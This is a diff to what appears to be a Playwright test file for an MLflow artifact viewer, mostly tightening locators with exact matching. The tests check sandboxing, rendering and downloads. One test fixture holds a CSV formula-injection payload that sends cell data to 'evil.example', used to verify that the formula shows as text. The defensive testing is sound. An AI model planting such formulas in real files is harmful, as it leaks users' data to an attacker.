@@ -77,7 +77,7 @@ test("a logged page runs its scripts in a sandbox, and gets nowhere", async () =
   expect(failures).toEqual(["csp"]);
   const answer = await fetch(`${ui.server.url}/api/2.0/mlflow/experiments/get-by-name?experiment_name=hacked`);
   expect(answer.status).toBe(404);
-  await page.getByRole("button", { name: "Source" }).click();
+  await page.getByRole("button", { name: "Source", exact: true }).click();
   await page.getByText("<h1 id=h>plot</h1>").waitFor();
   expect(page.url()).toContain("show=source");
 });
@@ -129,10 +129,10 @@ test("a formula in a CSV is text, and the download is what was logged", async ()
   const opened = await openFile("formula.csv");
   const { page } = opened;
   const formula = '=HYPERLINK("http://evil.example/"&A1)';
-  await page.getByRole("cell", { name: formula }).waitFor();
+  await page.getByRole("cell", { name: formula, exact: true }).waitFor();
   const [download] = await Promise.all([
     page.waitForEvent("download"),
-    page.getByRole("link", { name: "Download" }).click(),
+    page.getByRole("link", { name: "Download", exact: true }).click(),
   ]);
   expect(await readFile(await download.path(), "utf8")).toBe(`a,b\n1,"${formula.replaceAll('"', '""')}"\n`);
   await expectSound(opened);
@@ -142,10 +142,10 @@ test("a file whose name is markup is a name; downloads keep it", async () => {
   const opened = await openFile(ui.seed.hostileFile);
   const { page } = opened;
   await page.getByText("hostile name", { exact: true }).waitFor();
-  await page.getByRole("heading", { name: ui.seed.hostileFile }).waitFor();
+  await page.getByRole("heading", { name: ui.seed.hostileFile, exact: true }).waitFor();
   const [download] = await Promise.all([
     page.waitForEvent("download"),
-    page.getByRole("link", { name: "Download" }).click(),
+    page.getByRole("link", { name: "Download", exact: true }).click(),
   ]);
   expect(await readFile(await download.path(), "utf8")).toBe("hostile name");
   await expectSound(opened);
@@ -158,22 +158,22 @@ test("JSON as a tree, a log_table as a table, GeoJSON as a map", async () => {
   await json.page.getByRole("treeitem", { name: 'deep "value"' }).waitFor();
   await expectSound(json);
   const table = await openFile("eval.json");
-  await table.page.getByRole("row", { name: "<i>x</i> 0.75" }).waitFor();
+  await table.page.getByRole("row", { name: "<i>x</i> 0.75", exact: true }).waitFor();
   await expectSound(table);
   const map = await openFile("map.geojson");
-  await map.page.getByRole("img", { name: "2 shapes" }).waitFor();
+  await map.page.getByRole("img", { name: "2 shapes", exact: true }).waitFor();
   await expectSound(map);
 });
 
 test("tables: TSV with quotes, Parquet, and a CSV of 50 MB at once", async () => {
   const small = await openFile("small.tsv");
   const { page } = small;
-  await page.getByRole("row", { name: "b 10" }).waitFor();
-  await page.getByRole("button", { name: "value" }).click();
+  await page.getByRole("row", { name: "b 10", exact: true }).waitFor();
+  await page.getByRole("button", { name: "value", exact: true }).click();
   await page.getByRole("row").nth(1).filter({ hasText: "a9" }).waitFor();
   await expectSound(small);
   const parquet = await openFile("table.parquet");
-  await parquet.page.getByRole("row", { name: "0 row 0" }).waitFor();
+  await parquet.page.getByRole("row", { name: "0 row 0", exact: true }).waitFor();
   await parquet.page.getByText("5,000 rows").waitFor();
   await expectSound(parquet);
   const nested = await openFile("nested.parquet");
@@ -182,7 +182,7 @@ test("tables: TSV with quotes, Parquet, and a CSV of 50 MB at once", async () =>
   const large = await openFile("large.csv");
   await large.page.getByRole("row", { name: /^5 0\.123/ }).waitFor();
   await large.page.getByText("rows loaded").waitFor();
-  await large.page.getByRole("region", { name: "Table" }).focus();
+  await large.page.getByRole("region", { name: "Table", exact: true }).focus();
   await large.page.keyboard.press("End");
   await large.page.getByText(/\d\d,\d{3} rows loaded/).waitFor();
   await expectSound(large);
@@ -202,7 +202,7 @@ test("a large Parquet shows its first rows from a part of it, and more by scroll
   );
   expect(read.reduce((sum, bytes) => sum + bytes, 0) / 1_000_000).toBeLessThan(size);
   const before = await loaded.textContent();
-  await page.getByRole("region", { name: "Table" }).focus();
+  await page.getByRole("region", { name: "Table", exact: true }).focus();
   await page.keyboard.press("End");
   await expect.poll(() => loaded.textContent()).not.toBe(before);
 });
@@ -216,7 +216,7 @@ test("of a wide Parquet only the columns in sight are read", async () => {
   });
   await page.getByRole("treeitem", { name: "wide.parquet" }).click();
   await page.getByText("20,000 rows, 61 columns").waitFor();
-  const table = page.getByRole("region", { name: "Table" });
+  const table = page.getByRole("region", { name: "Table", exact: true });
   const item = await page.getByRole("treeitem", { name: "wide.parquet" }).textContent();
   expect(read / 1_000_000).toBeLessThan(Number(item?.match(/([\d.]+) MB/)?.[1]) / 2);
   await table.evaluate((element) => element.scrollTo({ left: element.scrollWidth }));
@@ -245,11 +245,11 @@ test("a part that cannot be read says so, and is tried again", async () => {
     route.request().headers().range?.startsWith("bytes=0-") ? route.continue() : route.abort(),
   );
   await page.getByRole("treeitem", { name: "large.csv" }).click();
-  await page.getByRole("region", { name: "Table" }).press("End");
+  await page.getByRole("region", { name: "Table", exact: true }).press("End");
   await page.getByRole("alert").getByText("The rest could not be read").waitFor();
   await page.getByRole("row", { name: /^5 0\.123/ }).waitFor({ state: "detached" });
   await page.unroute(/get-artifact.*large\.csv/);
-  await page.getByRole("button", { name: "Try again" }).click();
+  await page.getByRole("button", { name: "Try again", exact: true }).click();
   await page.getByText(/\d\d,\d{3} rows loaded/).waitFor();
   await page.getByRole("alert").waitFor({ state: "detached" });
 });
@@ -259,7 +259,7 @@ test("a large log: its start, any place of it, and its end", async () => {
   const { page } = opened;
   await page.getByText("line 5", { exact: true }).waitFor();
   expect(await page.getByText(/^line \d+$/).count()).toBeLessThan(200);
-  await page.getByRole("slider", { name: "Place in the file" }).fill("500");
+  await page.getByRole("slider", { name: "Place in the file", exact: true }).fill("500");
   await page.getByText(/of 5\.9 MB, from 2\.9 MB on/).waitFor();
   await page
     .getByText(/^line 2[45]\d{4}$/)
@@ -271,7 +271,7 @@ test("a large log: its start, any place of it, and its end", async () => {
     .getByText(/^line 2[45]\d{4}$/)
     .first()
     .waitFor();
-  await page.getByRole("button", { name: "The end" }).click();
+  await page.getByRole("button", { name: "The end", exact: true }).click();
   await page.getByText("line 499999", { exact: true }).waitFor();
   await expectSound(opened);
 });
@@ -281,7 +281,7 @@ test("words are found in all of a large file, line by line and by keys; the addr
   const { page } = opened;
   await page.getByText("line 5", { exact: true }).waitFor();
   await page.keyboard.press("Control+f");
-  const field = page.getByRole("searchbox", { name: "Find in the file" });
+  const field = page.getByRole("searchbox", { name: "Find in the file", exact: true });
   await expect.poll(() => field.evaluate((element) => element === element.ownerDocument.activeElement)).toBe(true);
   await page.keyboard.type("NE 49999");
   await page.getByText("1 of 11", { exact: true }).waitFor();
@@ -311,30 +311,30 @@ test("a search that finds nothing says so, and one that is stopped goes on", asy
     await released;
     await route.continue();
   });
-  await page.getByRole("button", { name: "Find in the file" }).click();
-  await page.getByRole("searchbox", { name: "Find in the file" }).fill("nowhere");
+  await page.getByRole("button", { name: "Find in the file", exact: true }).click();
+  await page.getByRole("searchbox", { name: "Find in the file", exact: true }).fill("nowhere");
   await page.getByText("Searching…").waitFor();
-  await page.getByRole("button", { name: "Stop" }).click();
+  await page.getByRole("button", { name: "Stop", exact: true }).click();
   await page.getByText("No line has it").waitFor();
   release();
-  await page.getByRole("button", { name: "Search on" }).click();
-  await page.getByRole("button", { name: "Stop" }).waitFor({ state: "detached" });
+  await page.getByRole("button", { name: "Search on", exact: true }).click();
+  await page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "detached" });
   await page.getByText("500,000 lines", { exact: true }).waitFor();
   await page.getByText("No line has it").waitFor();
 });
 
 test("long lines are wrapped where that is asked for, and stay so", async () => {
   const { page } = await openFile("long.txt");
-  const text = page.getByRole("region", { name: "Text of the file" });
+  const text = page.getByRole("region", { name: "Text of the file", exact: true });
   await text.getByText("the end of it").waitFor();
   const isWide = () => text.evaluate((element) => element.scrollWidth > element.clientWidth);
   expect(await isWide()).toBe(true);
-  await page.getByRole("button", { name: "Wrap long lines" }).click();
+  await page.getByRole("button", { name: "Wrap long lines", exact: true }).click();
   await expect.poll(isWide).toBe(false);
   await page.reload();
   await text.getByText("the end of it").waitFor();
   expect(await isWide()).toBe(false);
-  await page.getByRole("button", { name: "Wrap long lines" }).click();
+  await page.getByRole("button", { name: "Wrap long lines", exact: true }).click();
   await expect.poll(isWide).toBe(true);
 });
 
@@ -343,10 +343,10 @@ test("bytes that are no text, in hex to their end", async () => {
   const { page } = opened;
   await page.getByText("00000010", { exact: false }).waitFor();
   await page.getByText("The first 262 kB of 5 MB").waitFor();
-  await page.getByRole("slider", { name: "Place in the file" }).fill("500");
+  await page.getByRole("slider", { name: "Place in the file", exact: true }).fill("500");
   await page.getByText("from 2.5 MB on").waitFor();
   await page.getByText(/^002625a0 /).waitFor();
-  await page.getByRole("button", { name: "The end" }).click();
+  await page.getByRole("button", { name: "The end", exact: true }).click();
   await page.getByText(/^004c4b30 .*·$/).waitFor();
   await expectSoundInBothThemes(opened);
 });
@@ -355,8 +355,8 @@ test("a log is followed as it grows", async () => {
   const opened = await openFile("train.log");
   const { page } = opened;
   await page.getByText("first", { exact: true }).waitFor();
-  await page.getByRole("button", { name: "The end" }).click();
-  await page.getByRole("switch", { name: "Follow" }).click();
+  await page.getByRole("button", { name: "The end", exact: true }).click();
+  await page.getByRole("switch", { name: "Follow", exact: true }).click();
   const stored = `${ui.seed.experimentId}/${ui.seed.run}/artifacts/train.log`;
   const answer = await fetch(`${ui.server.url}/api/2.0/mlflow-artifacts/artifacts/${stored}`, {
     method: "PUT",
@@ -389,7 +389,7 @@ test("a folder is open in the tree, registers its model, and is downloaded as a 
   const folder = page.getByRole("treeitem", { name: "er", exact: true });
   await page.getByRole("treeitem", { name: "MLmodel" }).waitFor();
   expect(await folder.getAttribute("aria-expanded")).toBe("true");
-  await page.getByRole("button", { name: "MLmodel" }).waitFor();
+  await page.getByRole("button", { name: "MLmodel", exact: true }).waitFor();
   const [download] = await Promise.all([
     page.waitForEvent("download"),
     page.getByRole("button", { name: "Download", exact: true }).click(),
@@ -397,7 +397,7 @@ test("a folder is open in the tree, registers its model, and is downloaded as a 
   expect(download.suggestedFilename()).toBe("er.zip");
   const bytes = (await readFile(await download.path())).toString("latin1");
   expect(bytes).toContain("er/MLmodelartifact_path: model");
-  await page.getByRole("button", { name: "Register the model" }).click();
+  await page.getByRole("button", { name: "Register the model", exact: true }).click();
   await page.getByRole("dialog").getByText("nested/deep/er").waitFor();
   await page.getByLabel("Model", { exact: true }).fill("from-folder");
   await page.getByRole("button", { name: "Register", exact: true }).click();
@@ -408,23 +408,23 @@ test("a folder is open in the tree, registers its model, and is downloaded as a 
 test("images by step, beside those of runs that are chosen by keys", async () => {
   const opened = await openFile("images");
   const { page } = opened;
-  await page.getByRole("heading", { name: "val/sample" }).waitFor();
+  await page.getByRole("heading", { name: "val/sample", exact: true }).waitFor();
   await page.getByText("Step 20", { exact: true }).waitFor();
-  await page.getByRole("button", { name: "Other runs" }).press("Enter");
-  await page.getByRole("searchbox", { name: "Find a run by its name" }).fill("OTH");
-  await page.getByRole("checkbox", { name: "no files" }).waitFor({ state: "detached" });
-  await page.getByRole("checkbox", { name: "other" }).press("Space");
+  await page.getByRole("button", { name: "Other runs", exact: true }).press("Enter");
+  await page.getByRole("searchbox", { name: "Find a run by its name", exact: true }).fill("OTH");
+  await page.getByRole("checkbox", { name: "no files", exact: true }).waitFor({ state: "detached" });
+  await page.getByRole("checkbox", { name: "other", exact: true }).press("Space");
   await page.keyboard.press("Escape");
-  await page.getByRole("img", { name: "val/sample, step 20" }).nth(1).waitFor();
-  await page.getByRole("slider", { name: "Step" }).focus();
+  await page.getByRole("img", { name: "val/sample, step 20", exact: true }).nth(1).waitFor();
+  await page.getByRole("slider", { name: "Step", exact: true }).focus();
   await page.keyboard.press("ArrowLeft");
-  await page.getByRole("img", { name: "val/sample, step 10" }).nth(1).waitFor();
+  await page.getByRole("img", { name: "val/sample, step 10", exact: true }).nth(1).waitFor();
   expect(page.url()).toContain("step=10");
   await expectSoundInBothThemes(opened);
   // Another image beside the same run's.
   await page.getByRole("treeitem", { name: "plots" }).click();
   await page.getByRole("treeitem", { name: "one.png" }).click();
-  await page.getByRole("img", { name: "plots/one.png" }).nth(1).waitFor();
+  await page.getByRole("img", { name: "plots/one.png", exact: true }).nth(1).waitFor();
   expect(page.url()).toContain(`runs=${ui.seed.other}`);
   await page.setViewportSize({ width: 390, height: 844 });
   expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(390);
@@ -433,6 +433,6 @@ test("images by step, beside those of runs that are chosen by keys", async () =>
 
 test("a path that is not there says so", async () => {
   const opened = await openFile("none.txt");
-  await opened.page.getByRole("heading", { name: "There is no such file" }).waitFor();
+  await opened.page.getByRole("heading", { name: "There is no such file", exact: true }).waitFor();
   await expectSound(opened);
 });
